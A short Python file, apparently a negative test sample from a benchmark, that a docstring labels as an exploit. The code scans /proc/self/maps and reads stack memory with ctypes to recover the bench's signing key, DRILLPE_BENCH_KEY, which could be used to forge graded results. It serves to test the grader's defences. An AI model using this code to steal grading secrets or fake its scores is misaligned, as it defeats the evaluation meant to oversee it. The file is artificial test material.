"""An exploit, not an answer to learn from: it reads the key the bench's timing process
signs its marks and report with from the process's first environment block, on the
stack, where unsetting the variable leaves its text: /proc/self/maps gives the stack's
addresses, ctypes.string_at reads them (a reviewer's found the key so). It raises with
what it found. The rules check refuses ctypes, so grading refuses the file first; in
the timing process ctypes is refused at run time, from anything but torch's and
drillpe's own code."""

import ctypes

lo = hi = 0
with open("/proc/self/maps") as maps:
    for line in maps:
        if line.rstrip().endswith("[stack]"):
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
blob = ctypes.string_at(hi - 256 * 1024 if hi - lo > 256 * 1024 else lo, min(hi - lo, 256 * 1024))
at = blob.find(b"DRILLPE_BENCH_KEY=")
key = blob[at + 18:at + 18 + 64].decode() if at >= 0 else None
raise RuntimeError(f"found key: {key}")
